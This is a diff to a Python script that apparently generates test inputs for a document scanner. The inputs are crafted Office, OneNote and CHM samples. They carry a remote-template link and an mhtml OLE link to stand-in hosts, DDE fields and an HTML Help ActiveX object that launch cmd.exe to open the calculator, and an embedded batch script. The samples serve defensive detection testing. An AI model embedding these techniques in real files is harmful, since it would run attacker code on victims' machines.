@@ -127,7 +127,95 @@ uu = {
     "binhex.txt": b"(This file must be converted with BinHex 4.0)\n\n"
     b":$f*TEQKPH#jdCA0d,R0TG!\"6594%8dP8)3#3\"!&m!*!%EfjdCA0d!*!%+3!!!!\"\n3!!:\n",
 }
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+parts = {
+    "rels": b"\x00<?xml version=\"1.0\"?><Relationships><Relationship Id=\"rId1\" Type=\"" + REL.encode()
+    + b"attachedTemplate\" Target=\"https://t.example/a.dotm\" TargetMode=\"External\"/><Relationship Id='rId2' Type='"
+    + REL.encode() + b"oleObject' Target='mhtml:http://x.example/!x-usc:http://x.example/' TargetMode='External'/></Relationships>",
+    "fields": b"\x01<w:document><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>"
+    b"<w:r><w:instrText>AUTO cmd.exe \"/k calc\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
+    b"<w:fldSimple w:instr=\" PAGE \"/></w:p></w:document>",
+    "ddelink": b"\x02<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>",
+    "page": b"\x03<html><OBJECT classid=\"clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11\"><PARAM name=Command value=ShortCut>"
+    b"<PARAM name=Item1 value=',cmd.exe,/c calc'></OBJECT></html>",
+    "utf16": b"\x00" + "<Relationships><Relationship Type='x/frame' Target='\\\\h\\s' TargetMode='External'/></Relationships>".encode("utf-16"),
+}
+
+ONE_FILE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
+ONE_HEAD = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
+ONE_FOOT = bytes.fromhex("22a7fb71790f0b4abb13899256426b24")
+
+
+def one_block(data, declared=None):
+    b = ONE_HEAD + struct.pack("<QIQ", len(data) if declared is None else declared, 0, 0) + data
+    b += b"\0" * (-len(b) % 8)
+    return b + ONE_FOOT
+
+
+onenote = {
+    "two.one": ONE_FILE + b"\0" * 112 + one_block(b"@echo off\r\ngoto x\r\n") + one_block(b"\x89PNG\r\n\x1a\n"),
+    "truncated.one": ONE_FILE + b"\0" * 16 + one_block(b"abc", 1 << 40)[:60],
+    "text.one": ONE_FILE + "notes only".encode("utf-16-le"),
+}
+
+
+def encint(v):
+    out = [v & 0x7F]
+    v >>= 7
+    while v:
+        out.append((v & 0x7F) | 0x80)
+        v >>= 7
+    return bytes(reversed(out))
+
+
+def stored_chm(files):
+    """A help file with every entry in section 0 (tests/chm.rs has the same
+    writer in Rust)."""
+    chunk_size = 0x1000
+    listing = encint(1) + b"/" + b"\0\0\0"
+    content = b""
+    for name, data in files:
+        listing += encint(len(name)) + name + encint(0) + encint(len(content)) + encint(len(data))
+        content += data
+    chunk = b"PMGL" + struct.pack("<IIii", chunk_size - 0x14 - len(listing), 0, -1, -1) + listing
+    chunk += b"\0" * (chunk_size - len(chunk))
+    itsp = b"ITSP" + struct.pack("<IIIIIIiIIiII", 1, 0x54, 0x0A, chunk_size, 2, 1, -1, 0, 0, -1, 1, 0x409)
+    itsp += bytes.fromhex("6a92025d2e21d0119df900a0c922e6ec") + struct.pack("<Iiii", 0x54, -1, -1, -1)
+    directory = itsp + chunk
+    dir_off = 0x60 + 0x18
+    content_off = dir_off + len(directory)
+    guid = bytes.fromhex("10fd017caa7bd0119e0c00a0c922e6ec")
+    head = b"ITSF" + struct.pack("<IIIII", 3, 0x60, 1, 0x12345678, 0x409) + guid + b"\x11" + guid[1:]
+    head += struct.pack("<QQQQQ", 0x60, 0x18, dir_off, len(directory), content_off)
+    head += struct.pack("<IIQQ", 0x1FE, 0, content_off + len(content), 0)
+    return head + directory + content
+
+
+chm = {
+    "stored.chm": stored_chm([(b"/index.html", parts["page"][1:]), (b"/a.txt", b"hello")]),
+}
+# A help file with an LZX section, where Free Pascal's chmcmd is installed.
+try:
+    import shutil
+    import subprocess
+    import tempfile
+
+    if shutil.which("chmcmd"):
+        with tempfile.TemporaryDirectory() as t:
+            with open(os.path.join(t, "index.html"), "wb") as f:
+                f.write(parts["page"][1:])
+            with open(os.path.join(t, "p.hhp"), "w") as f:
+                f.write("[OPTIONS]\nCompiled file=out.chm\nDefault topic=index.html\n\n[FILES]\nindex.html\n")
+            subprocess.run(["chmcmd", "p.hhp"], cwd=t, check=True, capture_output=True)
+            with open(os.path.join(t, "out.chm"), "rb") as f:
+                chm["lzx.chm"] = f.read()
+except (OSError, subprocess.CalledProcessError):
+    pass
+
 targets = {
+    "document_part": parts,
+    "unpack_onenote": onenote,
+    "unpack_chm": chm,
     "zip_structure": zips,
     "unpack_zip": zips,
     "zip_differential": zips,
